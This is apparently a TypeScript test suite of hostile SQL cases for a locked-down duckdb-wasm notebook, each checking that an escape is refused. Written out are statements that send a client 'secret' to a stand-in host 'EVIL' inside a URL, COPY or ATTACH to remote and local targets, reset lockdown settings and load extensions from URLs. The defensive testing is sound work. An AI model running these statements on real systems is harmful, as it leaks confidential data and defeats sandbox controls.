// SQL's ways out of the page: network and file URLs (also built from the data), ATTACH, COPY and
// EXPORT, every lockdown setting's SET and RESET, and extension loading; each must be refused.
import type { HostileCase } from "./run-case";
import { cell, notebook, statement } from "./notebook-text";

const LOCKED = [
  ["ext", "enable_external_access", "true"],
  ["dirs", "allowed_directories", "['/']"],
  ["autoload", "autoload_known_extensions", "true"],
  ["autoinstall", "autoinstall_known_extensions", "true"],
  ["community", "allow_community_extensions", "true"],
  ["repo", "custom_extension_repository", "'http://EVIL/ext'"],
  ["lock", "lock_configuration", "false"],
] as const;

/** The SQL network, file, settings and extension cases. */
export const sqlCases: HostileCase[] = [
  {
    name: "SQL: read_csv of http and https URLs, and a URL as a table",
    notebook: notebook([
      cell("sql over_http", "SELECT * FROM read_csv('http://EVIL/a.csv')"),
      cell("sql over_https", "SELECT * FROM read_csv('https://EVIL/a.csv')"),
      cell("sql as_table", "SELECT * FROM 'http://EVIL/b.csv'"),
    ]),
    mustFail: ["over_http", "over_https", "as_table"],
    weaken: "lockdown",
  },
  {
    name: "SQL: s3, hf and opfs URLs",
    notebook: notebook([
      cell("sql over_s3", "SELECT * FROM read_csv('s3://EVIL/a.csv')"),
      cell("sql over_hf", "SELECT * FROM read_csv('hf://datasets/EVIL/x/a.csv')"),
      cell("sql over_opfs", "SELECT * FROM read_csv('opfs://a.csv')"),
    ]),
    mustFail: ["over_s3", "over_hf", "over_opfs"],
    weaken: "lockdown",
  },
  {
    name: "SQL: URLs built from the data (a variable, a bound parameter)",
    notebook: notebook([
      cell(
        "ts via_variable",
        "await sql`SET VARIABLE u = (SELECT 'http://' || secret || '.EVIL/v.csv' FROM clients LIMIT 1)`;",
        "return (await sql`SELECT * FROM read_csv(getvariable('u'))`).length;",
      ),
      cell(
        "ts via_param",
        "const s = (await sql`SELECT secret FROM clients LIMIT 1`)[0].secret;",
        "return (await sql`SELECT * FROM read_csv(${'http://EVIL/p.csv?c=' + s})`).length;",
      ),
    ]),
    mustFail: ["via_variable", "via_param"],
    weaken: "lockdown",
  },
  {
    name: "SQL: ATTACH of remote and file databases",
    notebook: notebook([
      statement("attach_http", "ATTACH 'http://EVIL/x.duckdb' AS remote"),
      statement("attach_file", "ATTACH '/tmp/x.duckdb' AS local_file"),
    ]),
    mustFail: ["attach_http", "attach_file"],
    weaken: "lockdown",
  },
  {
    name: "SQL: COPY TO a URL and EXPORT DATABASE",
    notebook: notebook([
      statement("copy_url", "COPY clients TO 'http://EVIL/c.csv'"),
      statement("copy_file", "COPY clients TO '/tmp/c.csv'"),
      statement("export_db", "EXPORT DATABASE '/tmp/export'"),
    ]),
    mustFail: ["copy_url", "copy_file", "export_db"],
    weaken: "lockdown",
  },
  {
    name: "SQL: SET and RESET of every lockdown setting",
    data: "none",
    notebook: notebook(
      LOCKED.flatMap(([short, setting, value]) => [
        statement(`set_${short}`, `SET ${setting} = ${value}`),
        statement(`reset_${short}`, `RESET ${setting}`),
      ]),
    ),
    mustFail: LOCKED.flatMap(([short]) => [`set_${short}`, `reset_${short}`]),
    weaken: "lockdown",
  },
  {
    // INSTALL only records a wish in duckdb-wasm (nothing is fetched until LOAD): it must not reach out.
    name: "SQL: LOAD and INSTALL of extensions (named, from a URL, from community)",
    data: "none",
    notebook: notebook([
      statement("load_httpfs", "LOAD httpfs"),
      statement("install_httpfs", "INSTALL httpfs"),
      statement("install_url", "INSTALL httpfs FROM 'http://EVIL/ext'"),
      statement("load_url", "LOAD 'http://EVIL/x.duckdb_extension'"),
      statement("install_community", "INSTALL h3 FROM community"),
    ]),
    mustFail: ["load_httpfs", "load_url"],
    weaken: "lockdown",
  },
];
